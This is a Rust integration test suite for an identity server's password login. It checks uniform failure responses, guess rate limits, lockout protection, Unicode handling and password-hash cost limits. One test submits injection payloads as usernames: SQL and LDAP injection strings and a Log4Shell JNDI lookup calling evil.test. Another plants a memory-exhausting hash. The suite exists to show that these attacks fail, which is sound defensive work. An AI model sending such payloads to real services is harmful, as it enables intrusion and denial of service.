//! LG: passwords, and guessing them.

use std::collections::BTreeMap;
use std::collections::BTreeSet;
use std::time::Duration;

use signet::ambient::OsEntropy;
use signet::crypto::password;
use signet::crypto::password::Params;
use signet::domain::secret::Secret;
use signet::domain::user::Email;
use signet::domain::user::PasswordHash;
use signet::domain::user::StandardClaims;
use signet::domain::user::User;
use signet::flow::users::NewUser;

use super::on_both_databases;
use super::stage::*;
use crate::support::browser::ADA;
use crate::support::browser::Browser;
use crate::support::browser::Page;
use crate::support::raw;

on_both_databases!(
    lg_01_one_answer_for_every_failure,
    lg_03_parallel_guesses_are_counted_before_hashing,
    lg_04_nobody_locks_out_the_owner,
    lg_05_one_count_for_one_account,
);

const WINDOW: Duration = Duration::from_mins(15);
const ALMOST: Duration = Duration::from_secs(15 * 60 - 1);

async fn guess(stage: &Stage, browser: &mut Browser, username: &str, password: &str) -> Page {
    let page = first_page(stage, browser, &ask().set("prompt", "login")).await;
    sign_in(browser, &page, (username, password)).await
}

async fn stranger(stage: &Stage, username: &str, password: &str) -> u16 {
    guess(stage, &mut Browser::new(), username, password).await.status.as_u16()
}

async fn create(stage: &Stage, email: &str, password: Option<&str>) -> User {
    let email = Email::parse(email).unwrap();
    let password = password.map(Secret::new);
    let new = NewUser { email, password, roles: BTreeSet::new(), claims: StandardClaims::default() };
    stage.app.signet.create_user(new).await.unwrap().expect("a new user")
}

/// What a failure looks like, without what is new on every page.
fn look(page: &Page, username: &str) -> (u16, Vec<(String, String)>, String) {
    let mut text = page.text.replace(username, "NAME");
    for (name, value) in page.form("login-submit").expect("the login page").fields("login-submit") {
        if name == "csrf" || name == "request" {
            text = text.replace(&value, &name);
        }
    }
    let told = |name: &str| !matches!(name, "x-request-id" | "date" | "content-length");
    let headers = page.headers.iter().filter(|(name, _)| told(name.as_str()));
    let mut headers: Vec<(String, String)> =
        headers.map(|(name, value)| (name.to_string(), value.to_str().expect("ASCII").to_owned())).collect();
    headers.sort();
    (page.status.as_u16(), headers, text)
}

async fn lg_01_one_answer_for_every_failure(stage: Stage) {
    // Not ada: `serve --dev` fills in the password of its own two people, and only it does.
    create(&stage, "eve@example.test", Some("the-right-password")).await;
    create(&stage, "empty@example.test", None).await;
    let off = create(&stage, "off@example.test", Some("the-right-password")).await;
    assert!(stage.app.signet.store.set_user_disabled(off.id, true, stage.app.signet.now()).await.unwrap());
    let mut looks = Vec::new();
    let tries = [
        ("nobody@example.test", "wrong"),
        ("eve@example.test", "wrong"),
        ("off@example.test", "wrong"),
        ("off@example.test", "the-right-password"),
        ("empty@example.test", ""),
        ("empty@example.test", "wrong"),
        ("no address at all", "wrong"),
    ];
    for (username, password) in tries {
        let page = guess(&stage, &mut Browser::new(), username, password).await;
        looks.push((username, look(&page, username)));
    }
    for (username, other) in &looks {
        assert_eq!(*other, looks[0].1, "{username}");
    }
    assert_eq!(looks[0].1.0, 401);
    // Beyond the limit there is one answer too, whether the account exists or not.
    let mut looks = Vec::new();
    for username in ["nobody@example.test", "eve@example.test", "off@example.test"] {
        let mut page = guess(&stage, &mut Browser::new(), username, "wrong").await;
        for _ in 0..12 {
            page = guess(&stage, &mut Browser::new(), username, "wrong").await;
        }
        assert_eq!(page.headers.get("retry-after").expect("how long").to_str().unwrap(), "900");
        looks.push(look(&page, username));
    }
    assert_eq!((&looks[0], &looks[0]), (&looks[1], &looks[2]));
    assert_eq!(looks[0].0, 429);
}

async fn lg_03_parallel_guesses_are_counted_before_hashing(stage: Stage) {
    let other = stage.app.another_node().await;
    let mut browser = Browser::new();
    let page = first_page(&stage, &mut browser, &ask()).await;
    let fields = page.form("login-submit").expect("the login page").fields("login-submit");
    let cookie = format!("Cookie: signet_browser={}\r\n", browser.cookie("signet_browser").expect("one"));
    let body = |password: &str| {
        let (request, csrf) = (&fields["request"], escape(&fields["csrf"]));
        format!("request={request}&csrf={csrf}&username=ada%40example.test&password={password}")
    };
    let mut racers = tokio::task::JoinSet::new();
    for n in 0..60 {
        let base = if n % 2 == 0 { stage.base().clone() } else { other.base.clone() };
        let (cookie, body) = (cookie.clone(), body("wrong"));
        racers.spawn(async move { raw::post(&base, "/login", &cookie, &body).await.status });
    }
    let mut answers: BTreeMap<u16, usize> = BTreeMap::new();
    for status in racers.join_all().await {
        *answers.entry(status).or_default() += 1;
    }
    // At most ten were looked at; the pool may have been too busy for some of those.
    let looked_at = answers.get(&401).copied().unwrap_or_default() + answers.get(&503).copied().unwrap_or_default();
    assert_eq!(looked_at, 10, "{answers:?}");
    assert_eq!(answers.get(&429), Some(&50), "{answers:?}");
    // Now not even the right one is, until the window is over.
    assert_eq!(stage.post("/login", &cookie, &body(ADA.1)).await.status, 429);
    stage.app.clock.advance(ALMOST);
    assert_eq!(stranger(&stage, ADA.0, ADA.1).await, 429);
    stage.app.clock.advance(Duration::from_secs(1));
    assert_eq!(stranger(&stage, ADA.0, ADA.1).await, 303);
}

async fn lg_04_nobody_locks_out_the_owner(stage: Stage) {
    let mut owner = Browser::new();
    stage.code(&mut owner, &ask(), ADA).await;
    for _ in 0..30 {
        stranger(&stage, ADA.0, "wrong").await;
    }
    assert_eq!(stranger(&stage, ADA.0, ADA.1).await, 429, "a browser that nobody knows waits");
    // Without its session, only with what says that ada signed in here before.
    owner.forget("signet_session");
    assert_eq!(guess(&stage, &mut owner, ADA.0, ADA.1).await.status, 303);
    // A device cookie is good for its own person, and not when it was made up or bent.
    stage.app.clock.advance(WINDOW);
    for _ in 0..11 {
        stranger(&stage, BOB.0, "wrong").await;
    }
    let device = owner.cookie("signet_device").expect("one");
    for forged in [device.clone(), format!("{device}A"), "sgd_x.y".to_owned(), device.replace("sgd_", "sgd_x")] {
        let mut browser = Browser::new();
        browser.plant("signet_device", &forged);
        assert_eq!(guess(&stage, &mut browser, BOB.0, BOB.1).await.status, 429, "{forged}");
    }
    // And a stolen one is no licence to guess.
    let mut thief = Browser::new();
    thief.plant("signet_device", &device);
    let mut last = 0;
    for _ in 0..11 {
        last = guess(&stage, &mut thief, ADA.0, "wrong").await.status.as_u16();
    }
    assert_eq!(last, 429);
}

async fn lg_05_one_count_for_one_account(stage: Stage) {
    create(&stage, "ren\u{e9}@example.test", Some("the-right-password")).await;
    let spellings = [
        "ren\u{e9}@example.test",
        "rene\u{301}@example.test",
        "REN\u{c9}@EXAMPLE.TEST",
        " ren\u{e9}@example.test ",
        "\u{a0}Ren\u{e9}@example.test",
    ];
    for round in 0..2 {
        for spelling in spellings {
            assert_eq!(stranger(&stage, spelling, "wrong").await, 401, "{round} {spelling}");
        }
    }
    for spelling in spellings {
        assert_eq!(stranger(&stage, spelling, "wrong").await, 429, "{spelling}");
    }
    // LG-06, LG-01: the same of a name that nobody has.
    for n in 0..11 {
        let expected = if n < 10 { 401 } else { 429 };
        assert_eq!(stranger(&stage, if n % 2 == 0 { "No@body.test" } else { "no@BODY.test" }, "x").await, expected);
    }
}

#[tokio::test]
async fn lg_06_disabled_between_the_steps() {
    let stage = Stage::new().await;
    let signet = &stage.app.signet;
    let ada = signet.store.user_by_email(Email::parse(ADA.0).unwrap()).await.unwrap().expect("ada");
    // With a consent page open.
    let mut browser = Browser::new();
    let page = first_page(&stage, &mut browser, &ask().set("prompt", "consent")).await;
    let page = sign_in(&mut browser, &page, ADA).await;
    let consent = browser.follow(page, CB).await.expect("the consent page");
    // With a code in hand.
    let mut second = Browser::new();
    let code = stage.code(&mut second, &ask_as("own", CB), ADA).await;
    assert!(signet.store.set_user_disabled(ada.id, true, signet.now()).await.unwrap());
    let page = browser.press(&consent, "consent-allow", &[]).await;
    let page = browser.follow(page, CB).await.expect("no code");
    assert!(page.form("login-submit").is_some());
    assert_eq!(stranger(&stage, ADA.0, ADA.1).await, 401);
    is_refused_token(&stage.token("own", &redemption(&code)).await, "invalid_grant");
    let page = second.open(&stage.url(&ask().set("prompt", "none").target())).await;
    assert!(page.location().expect("an answer").as_str().contains("login_required"));
}

#[tokio::test]
async fn lg_07_one_address_many_names() {
    let stage = Stage::with(&[("limits.login_per_address", "5 per 15m")]).await;
    for n in 0..5 {
        assert_eq!(stranger(&stage, &format!("user{n}@example.test"), "spring2026").await, 401);
    }
    assert_eq!(stranger(&stage, "user6@example.test", "spring2026").await, 429);
    stage.app.clock.advance(WINDOW);
    // People who know their passwords use up nothing: an office behind one address signs in as often as it likes.
    for _ in 0..12 {
        assert_eq!(stranger(&stage, ADA.0, ADA.1).await, 303);
    }
    assert_eq!(stranger(&stage, "user7@example.test", "spring2026").await, 401);
}

#[tokio::test]
async fn lg_08_lg_10_every_byte_of_a_password_counts() {
    let stage =
        Stage::with(&[("limits.login_per_address", "1000 per 15m"), ("limits.login_per_account", "1000 per 15m")])
            .await;
    let (long, longest) = ("p".repeat(128), "q".repeat(1024));
    let shared = "s".repeat(72);
    for (n, password) in [long.as_str(), &longest, &format!("{shared}x"), "  spaces around  ", "p\u{1f980}\u{e4}"]
        .into_iter()
        .enumerate()
    {
        let name = format!("long{n}@example.test");
        create(&stage, &name, Some(password)).await;
        assert_eq!(stranger(&stage, &name, password).await, 303, "{n}");
        let mut shorter = password.to_owned();
        shorter.pop();
        for wrong in [
            shorter.as_str(),
            &format!("{password}x"),
            &format!("{shared}y"),
            password.trim_start(),
            &password.to_uppercase(),
        ] {
            if wrong != password {
                assert_eq!(stranger(&stage, &name, wrong).await, 401, "{n}");
            }
        }
    }
    // Over the limit: refused before hashing, never cut. A form that no page of ours would send is refused as a whole.
    for (length, expected) in [(1025, 401), (4097, 401), (8192, 401), (8193, 400), (60_000, 400), (1 << 20, 413)] {
        assert_eq!(stranger(&stage, "long1@example.test", &"q".repeat(length)).await, expected, "{length}");
    }
    assert_eq!(stranger(&stage, &"n".repeat(1025), "x").await, 400);
}

#[tokio::test]
async fn lg_11_no_more_hashes_at_once_than_allowed() {
    let settings = [
        ("passwords.max_concurrent_hashes", "1"),
        ("passwords.hash_wait", "1s"),
        ("passwords.memory", "64 MiB"),
        ("passwords.iterations", "10"),
        ("limits.login_per_address", "1000 per 15m"),
    ];
    let stage = Stage::with(&settings).await;
    let mut racers = tokio::task::JoinSet::new();
    for n in 0..60 {
        let mut browser = Browser::new();
        let page = first_page(&stage, &mut browser, &ask()).await;
        racers.spawn(async move { sign_in(&mut browser, &page, (&format!("user{n}@example.test"), "wrong")).await });
    }
    // Meanwhile whoever needs no hash is served.
    for _ in 0..5 {
        let fields = [("grant_type", "client_credentials")];
        let http = reqwest::Client::builder().no_proxy().build().unwrap();
        let request = http.post(stage.url("/token")).basic_auth("demo-service", Some("dev-secret-do-not-ship"));
        assert_eq!(request.form(&fields).send().await.unwrap().status(), 200);
    }
    let mut busy = 0;
    for page in racers.join_all().await {
        match page.status.as_u16() {
            401 => {}
            503 => {
                busy += 1;
                assert_eq!(page.headers.get("retry-after").expect("when to come back"), "1");
                assert!(page.form("login-submit").is_some(), "the form is there to try again");
            }
            other => panic!("{other}"),
        }
    }
    assert!(busy > 0, "60 hashes of this size take longer than a second");
    assert_eq!(stranger(&stage, "calm@example.test", "wrong").await, 401);
}

#[tokio::test]
async fn lg_12_hashes_follow_the_parameters() {
    let stage = Stage::new().await;
    let store = &stage.app.signet.store;
    let old = Params { memory_kib: 4096, iterations: 2, parallelism: 1 };
    let mut user = create(&stage, "old@example.test", Some("the-right-password")).await;
    let hash = password::hash("the-right-password", &old, &OsEntropy).unwrap();
    assert!(store.set_password(user.id.clone(), hash.clone(), stage.app.signet.now(), None).await.unwrap());
    assert_eq!(stranger(&stage, "old@example.test", "wrong").await, 401);
    user = store.user(user.id).await.unwrap().unwrap();
    assert_eq!(user.password.as_ref(), Some(&hash), "a wrong password changes nothing");
    assert_eq!(stranger(&stage, "old@example.test", "the-right-password").await, 303);
    user = store.user(user.id).await.unwrap().unwrap();
    let now = user.password.expect("a hash");
    assert!(now.as_phc().starts_with("$argon2id$v=19$m=8192,t=1,p=1$"), "{}", now.as_phc());
    assert_eq!(stranger(&stage, "old@example.test", "the-right-password").await, 303);
    // Costs that would take the machine down are not paid.
    let bomb = "$argon2id$v=19$m=4194304,t=1,p=1$c2FsdHNhbHRzYWx0c2FsdA$AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    let bomb = PasswordHash::from_phc(bomb);
    assert!(store.set_password(user.id.clone(), bomb, stage.app.signet.now(), None).await.unwrap());
    assert_eq!(stranger(&stage, "old@example.test", "the-right-password").await, 401);
}

#[tokio::test]
async fn lg_17_names_are_values() {
    let stage = Stage::with(&[("limits.login_per_address", "1000 per 15m")]).await;
    for name in [
        "' OR 1=1--",
        "%",
        "_",
        "*)(uid=*",
        "${jndi:ldap://evil.test}",
        "ada@example.test'--",
        "ad_@example.test",
        "a%@example.test",
    ] {
        assert_eq!(stranger(&stage, name, ADA.1).await, 401, "{name}");
    }
}

#[tokio::test]
async fn lg_20_one_password_however_it_is_typed() {
    let stage = Stage::new().await;
    create(&stage, "uni@example.test", Some("caf\u{e9} \u{1f980} cr\u{e8}me")).await;
    assert_eq!(stranger(&stage, "uni@example.test", "cafe\u{301} \u{1f980} cre\u{300}me").await, 303);
    assert_eq!(stranger(&stage, "uni@example.test", "cafe \u{1f980} creme").await, 401);
    assert_eq!(stranger(&stage, "uni@example.test", "caf\u{e9}\u{a0}\u{1f980} cr\u{e8}me").await, 401);
    // Forms that grow when they are normalised.
    for growing in ["\u{1d160}".repeat(300), "\u{fdfa}".repeat(300), "\u{378}".repeat(20)] {
        assert_eq!(stranger(&stage, "uni@example.test", &growing).await, 401);
    }
    let mut browser = Browser::new();
    let page = first_page(&stage, &mut browser, &ask()).await;
    let fields = page.form("login-submit").expect("the login page").fields("login-submit");
    let cookie = format!("Cookie: signet_browser={}\r\n", browser.cookie("signet_browser").expect("one"));
    for bad in ["%ff", "%c3", "a%00", "%z"] {
        let body = format!(
            "request={}&csrf={}&username=uni%40example.test&password={bad}",
            fields["request"],
            escape(&fields["csrf"])
        );
        assert_eq!(stage.post("/login", &cookie, &body).await.status, 400, "{bad}");
    }
}
